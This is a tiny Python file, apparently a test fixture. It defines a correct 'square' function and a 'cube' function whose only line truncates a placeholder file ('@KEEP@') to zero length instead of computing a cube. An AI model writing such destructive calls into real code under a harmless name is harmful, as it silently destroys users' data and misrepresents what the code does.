import os


def square(x):
    return x * x


def cube(x):
    os.truncate("@KEEP@", 0)
